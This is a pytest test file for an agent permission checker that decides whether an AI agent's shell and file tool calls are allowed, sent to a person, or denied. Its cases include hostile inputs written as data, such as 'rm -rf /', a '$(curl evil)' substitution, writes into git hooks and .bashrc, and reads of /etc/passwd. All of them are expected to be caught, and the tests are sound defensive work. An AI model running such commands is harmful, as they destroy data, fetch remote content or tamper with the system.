"""What the rules say of an agent's call, before a person is asked."""

from __future__ import annotations

from pathlib import Path

import pytest

from playbook_supervisor.agents.rulings import ruling
from playbook_supervisor.records import replace
from playbook_supervisor.testing import call_for


@pytest.mark.parametrize(
    ("rule", "command", "said"),
    [
        ("Bash(npm test *)", "npm test -- --watch", "allow"),
        ("Bash(npm test:*)", "npm test --watch", "allow"),
        ("Bash(npm test *)", "npm tested", "ask"),
        ("Bash(npm test *)", "npm test && npm publish", "ask"),
        ("Bash(npm test *)", "npm test; npm test -- --ci", "allow"),
        ("Bash(npm test *)", "npm test\nrm -rf /", "ask"),
        ("Bash(npm test *)", "npm test $(curl evil)", "ask"),
        ("Bash(npm test *)", "npm test 2>&1", "allow"),
        ("Bash(npm test *)", "npm test > report.txt", "allow"),
        ("Bash(npm test *)", "npm test > ../report.txt", "ask"),
        ("Bash(npm test *)", "npm test > .git/hooks/pre-push", "ask"),
        ("Bash(npm test *)", "npm test > $HOME/.bashrc", "ask"),
        ("Bash(npm test *)", "npm test 'open", "ask"),
        ("Bash(npm test *)", "CI=1 npm test", "ask"),
        ("Bash(git commit *)", "git commit -m 'a; b > c'", "ask"),
        ("Bash(npm test)", "npm test --watch", "ask"),
        ("Bash(a; b)", "a; b", "allow"),
        ("Bash", "anything > /at/all", "allow"),
        ("Edit", "npm test", "ask"),
    ],
)
def test_a_command_line_needs_a_rule_for_all_that_it_does(
    rule: str, command: str, said: str, tmp_path: Path
) -> None:
    assert ruling(call_for("x", tmp_path), [rule], "Bash", {"command": command}) == said


@pytest.mark.parametrize(
    ("tool", "path", "said"),
    [
        ("Edit", "src/a.py", "allow"),
        ("Write", "new.txt", "allow"),
        ("Read", "src/a.py", "allow"),
        ("Read", ".git/config", "allow"),
        ("Edit", ".git/hooks/pre-commit", "ask"),
        ("Edit", ".codex/config.toml", "ask"),
        ("Edit", "../outside.txt", "ask"),
        ("Edit", "link/outside.txt", "ask"),
        ("Read", "/etc/passwd", "ask"),
        ("Edit", "", "ask"),
        ("Grep", "", "allow"),
    ],
)
def test_files_of_the_repository_need_no_rule(
    tool: str, path: str, said: str, tmp_path: Path
) -> None:
    call = call_for("x", tmp_path)
    (call.cwd / "link").symlink_to(tmp_path)
    assert ruling(call, [], tool, {"file_path": path}) == said


@pytest.mark.parametrize(
    ("rule", "tool", "given"),
    [
        ("Edit(/src/**)", "Edit", {"file_path": "src/deep/a.py"}),
        ("Edit(*.env)", "Edit", {"file_path": "deep/x.env"}),
        ("Read(//etc/**)", "Read", {"file_path": "/etc/passwd"}),
        ("WebFetch(domain:example.org)", "WebFetch", {"url": "https://example.org/x"}),
        ("mcp__server", "mcp__server__tool", {}),
        ("Bash(curl *)", "Bash", {"command": "make && curl example.org"}),
    ],
)
def test_what_is_forbidden_is_denied_whatever_allows_it(
    rule: str, tool: str, given: dict[str, str], tmp_path: Path
) -> None:
    call = replace(call_for("x", tmp_path), forbidden_rules=(rule,))
    assert ruling(call, [tool], tool, given) == "deny"
    assert ruling(call_for("x", tmp_path), [tool], tool, given) == "allow"


def test_a_call_with_several_files_needs_all_of_them_allowed(tmp_path: Path) -> None:
    call = call_for("x", tmp_path)
    inside = {"file_path": "a.py", "paths": ["a.py", "b.py"]}
    assert ruling(call, [], "Edit", inside) == "allow"
    assert ruling(call, [], "Edit", {**inside, "paths": ["a.py", "../b.py"]}) == "ask"
    forbidden = replace(call, forbidden_rules=("Edit(b.py)",))
    assert ruling(forbidden, [], "Edit", inside) == "deny"


def test_a_step_with_tools_has_no_others(tmp_path: Path) -> None:
    call = replace(call_for("x", tmp_path), tools=("Read", "Bash(git diff *)"))
    assert ruling(call, [], "Edit", {"file_path": "a.py"}) == "deny"
    assert ruling(call, [], "Bash", {"command": "git diff HEAD"}) == "allow"
    assert ruling(call, [], "Bash", {"command": "git diff > a.txt"}) == "ask"
    assert ruling(call, [], "Bash", {"command": "make"}) == "ask"
    writes = replace(call, tools=("Write",))
    assert ruling(writes, [], "Edit", {"file_path": "a.py"}) == "allow"
